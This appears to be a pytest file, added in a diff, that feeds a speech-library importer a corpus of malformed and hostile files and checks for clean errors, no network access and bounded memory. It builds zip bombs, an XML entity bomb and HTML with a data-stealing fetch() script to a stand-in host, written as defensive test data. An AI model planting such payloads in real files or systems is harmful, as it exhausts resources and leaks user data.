@@ -1,0 +1,230 @@
+"""A corpus of bad files, each imported through the library: every one is answered with a
+clear error naming the file and the reason, or a correct import — never a traceback, never a
+network access, and in bounded memory."""
+import io
+import socket
+import zipfile
+from pathlib import Path
+
+import pytest
+
+from db import Library
+from tests.speeches import FLOOD, SAFETY
+
+SPEECH = SAFETY + "\n" + FLOOD.split("\n", 1)[1]
+
+
+def _zip(entries: dict[str, bytes], level=zipfile.ZIP_DEFLATED) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", level) as archive:
+        for name, data in entries.items():
+            archive.writestr(name, data)
+    return buffer.getvalue()
+
+
+def _zip_bomb() -> bytes:
+    """300 MB of zeros as word/document.xml, in a few hundred kilobytes."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        with archive.open("word/document.xml", "w", force_zip64=True) as entry:
+            chunk = b"\0" * 2**20
+            for _ in range(300):
+                entry.write(chunk)
+        archive.writestr("[Content_Types].xml", "<Types/>")
+    return buffer.getvalue()
+
+
+def _lying_zip_bomb() -> bytes:
+    """A ZIP whose header says its entry is small while the data unpacks to much more."""
+    data = bytearray(_zip({"word/document.xml": b"<w:document>" + b"a" * 5_000_000}))
+    small = (100).to_bytes(4, "little")
+    at = data.find(b"PK\x01\x02")  # central directory: uncompressed size at offset 24
+    data[at + 24:at + 28] = small
+    at = data.find(b"PK\x03\x04")  # local header: uncompressed size at offset 22
+    data[at + 22:at + 26] = small
+    return bytes(data)
+
+
+def _pdf_without_text() -> bytes:
+    from reportlab.pdfgen import canvas
+    buffer = io.BytesIO()
+    page = canvas.Canvas(buffer)
+    page.rect(100, 100, 300, 400, fill=1)  # a "scan": shapes, no text layer
+    page.showPage()
+    page.save()
+    return buffer.getvalue()
+
+
+def _docx_with_remote_image() -> bytes:
+    from docx import Document
+    document = Document()
+    document.add_paragraph(SPEECH)
+    buffer = io.BytesIO()
+    document.save(buffer)
+    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as source:
+        entries = {info.filename: source.read(info) for info in source.infolist()}
+    entries["word/_rels/document.xml.rels"] = entries["word/_rels/document.xml.rels"].replace(
+        b"</Relationships>", b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/'
+        b'officeDocument/2006/relationships/image" Target="http://example.com/x.png" '
+        b'TargetMode="External"/></Relationships>')
+    return _zip(entries)
+
+
+HTML_HOSTILE = f"""<html><head><title>讲话</title>
+<script>fetch("http://example.com/steal")</script><link rel="stylesheet" href="http://x/s.css">
+</head><body><iframe src="http://example.com/frame"></iframe>
+<img src="http://example.com/pixel.png"><img src="data:image/png;base64,{'A' * 200000}">
+<div>{SPEECH.replace(chr(10), '</div><div>')}</div>
+<script>document.write("<p>注入的文字</p>")</script><noscript>请启用脚本</noscript></body></html>"""
+
+
+def bad_files() -> dict[str, bytes | None]:
+    """name → bytes (None: made on disk by the test)."""
+    utf8 = SPEECH.encode("utf-8")
+    return {
+        "truncated-utf8.txt": utf8[:len(utf8) // 2 + 1],
+        "gbk-no-bom.txt": SPEECH.encode("gbk"),
+        "gb18030.txt": (SPEECH + "𠀀").encode("gb18030"),
+        "big5.txt": "同志們：今天召開全鎮安全生產工作會議。各部門要切實履行監管職責。".encode("big5") * 20,
+        "utf16-bom.txt": SPEECH.encode("utf-16"),
+        "utf16le-no-bom.txt": SPEECH.encode("utf-16-le"),
+        "mixed-encodings.txt": SAFETY.encode("utf-8") + FLOOD.encode("gbk"),
+        "nul-bytes-inside.txt": utf8.replace("。".encode(), "。\0".encode()),
+        "all-nul.txt": b"\0" * 4096,
+        "zip-bomb.docx": _zip_bomb(),
+        "lying-zip-bomb.docx": _lying_zip_bomb(),
+        "not-a-zip.docx": b"PK\x03\x04 not really a zip" + bytes(range(256)) * 10,
+        "zip-not-docx.docx": _zip({"hello.txt": b"hello"}),
+        "docx-remote-image.docx": _docx_with_remote_image(),
+        "scan-without-text.pdf": _pdf_without_text(),
+        "broken.pdf": b"%PDF-1.4\n" + bytes(range(256)) * 50,
+        "hostile.html": HTML_HOSTILE.encode("utf-8"),
+        "deeply-nested.html": ("<div>" * 20000 + SPEECH + "</div>" * 20000).encode("utf-8"),
+        "unclosed-tags.html": ("<p><b><i>" + SPEECH).encode("utf-8"),
+        "wrong-charset.html": ('<meta charset="gbk"><p>' + SPEECH).encode("utf-8"),
+        "entity-bomb.html": (b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
+                             b"<p>&b;&b;&b;</p>" + utf8),
+        "furniture-only.html": "<nav>首页 | 新闻</nav><footer>版权所有 2016</footer>".encode(),
+        "empty.txt": b"",
+        "bom-only.txt": b"\xef\xbb\xbf",
+        "whitespace-only.txt": " \n\t\u3000\n".encode(),
+        "punctuation-only.txt": "。，、；：？！…—".encode() * 50,
+        "png-named.txt": b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40,
+        "html-named.txt": ("<html><body><p>" + SPEECH + "</p></body></html>").encode(),
+        "pdf-named.html": b"%PDF-1.4\n%binary\n" + bytes(range(256)) * 8,
+        "crlf.txt": SPEECH.replace("\n", "\r\n").encode("utf-8"),
+        "cr-only.txt": SPEECH.replace("\n", "\r").encode("utf-8"),
+        "escape-codes.txt": ("\x1b[31m" + SPEECH + "\x1b[0m\x07\x08").encode("utf-8"),
+        "invalid-utf8-surrogates.txt": utf8 + b"\xed\xa0\x80\xff\xfe",
+        "one-long-line.txt": SPEECH.replace("\n", "").encode("utf-8") * 300,
+        "program.exe": b"MZ" + bytes(200),
+        "100mb-of-nul.txt": None,
+        "folder.txt": None,
+    }
+
+
+@pytest.fixture(scope="module")
+def imported(tmp_path_factory):
+    folder = tmp_path_factory.mktemp("bad-inputs")
+    for name, data in bad_files().items():
+        if data is not None:
+            (folder / name).write_bytes(data)
+    with open(folder / "100mb-of-nul.txt", "wb") as big:
+        big.truncate(100 * 2**20)
+    (folder / "folder.txt").mkdir()
+    attempts = []
+    real_connect = socket.socket.connect
+
+    def no_network(self, address):
+        attempts.append(address)
+        raise OSError("the tests allow no network access")
+
+    socket.socket.connect = no_network
+    try:
+        with Library(folder.parent / "library.sqlite") as library:
+            results = {Path(r.path).name: r for r in (library.import_file(folder / name)
+                                                       for name in bad_files())}
+            texts = {s.title or s.source_path: library.get_speech(s.id).text
+                     for s in library.list_speeches()}
+            integrity = library.check()
+    finally:
+        socket.socket.connect = real_connect
+    return results, texts, attempts, integrity
+
+
+def test_the_bad_input_corpus_is_large_enough():
+    assert len(bad_files()) >= 30
+
+
+@pytest.mark.parametrize("name", list(bad_files()))
+def test_each_bad_file_gets_a_clear_answer(imported, name):
+    results, _, _, _ = imported
+    result = results[name]
+    assert result.status in ("imported", "failed"), result
+    if result.status == "failed":
+        message = result.message
+        assert message and len(message) < 300 and "Traceback" not in message
+        assert not message.startswith(("'", "(")) and "object at 0x" not in message
+    else:
+        assert result.speeches >= 1
+
+
+EXPECTED_IMPORTS = {"gbk-no-bom.txt", "gb18030.txt", "big5.txt", "utf16-bom.txt",
+                    "nul-bytes-inside.txt", "docx-remote-image.docx", "hostile.html",
+                    "deeply-nested.html", "unclosed-tags.html", "wrong-charset.html",
+                    "crlf.txt", "cr-only.txt", "escape-codes.txt", "one-long-line.txt",
+                    "html-named.txt", "truncated-utf8.txt", "invalid-utf8-surrogates.txt"}
+EXPECTED_FAILURES = {"all-nul.txt", "zip-bomb.docx", "not-a-zip.docx", "zip-not-docx.docx",
+                     "scan-without-text.pdf", "broken.pdf", "furniture-only.html", "empty.txt",
+                     "bom-only.txt", "whitespace-only.txt", "punctuation-only.txt",
+                     "png-named.txt", "program.exe", "100mb-of-nul.txt", "folder.txt"}
+
+
+def test_good_text_inside_bad_files_is_imported_and_the_rest_refused(imported):
+    results, texts, _, _ = imported
+    imported_names = {name for name, r in results.items() if r.status == "imported"}
+    assert EXPECTED_IMPORTS <= imported_names
+    assert not EXPECTED_FAILURES & imported_names
+
+
+def test_imported_text_is_clean(imported):
+    _, texts, _, integrity = imported
+    assert integrity is None
+    for text in texts.values():
+        assert "\0" not in text and "\x1b" not in text and "\r" not in text
+        assert "<script" not in text and "fetch(" not in text and "注入的文字" not in text
+        assert text.count("\ufffd") <= 8  # only where a damaged file had bad bytes
+
+
+def test_no_file_reached_for_the_network(imported):
+    _, _, attempts, _ = imported
+    assert attempts == []
+
+
+MEASURE = """
+import resource, sys
+from pathlib import Path
+from db import Library
+with Library(Path(sys.argv[1]) / "library.sqlite") as library:
+    for name in sys.argv[2:]:
+        library.import_file(Path(sys.argv[1]) / name)
+print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024)
+"""
+
+
+def test_the_heaviest_bad_files_are_refused_in_bounded_memory(tmp_path):
+    import subprocess
+    import sys
+
+    from tests.conftest import REPO
+    heavy = ["zip-bomb.docx", "lying-zip-bomb.docx", "deeply-nested.html", "hostile.html",
+             "entity-bomb.html", "100mb-of-nul.txt"]
+    files = bad_files()
+    for name in heavy[:-1]:
+        (tmp_path / name).write_bytes(files[name])
+    with open(tmp_path / heavy[-1], "wb") as big:
+        big.truncate(100 * 2**20)
+    done = subprocess.run([sys.executable, "-c", MEASURE, str(tmp_path), *heavy], cwd=REPO,
+                          capture_output=True, text=True, timeout=300)
+    assert done.returncode == 0, done.stderr
+    assert int(done.stdout.split()[-1]) < 400  # megabytes at the peak, Python and Qt-free
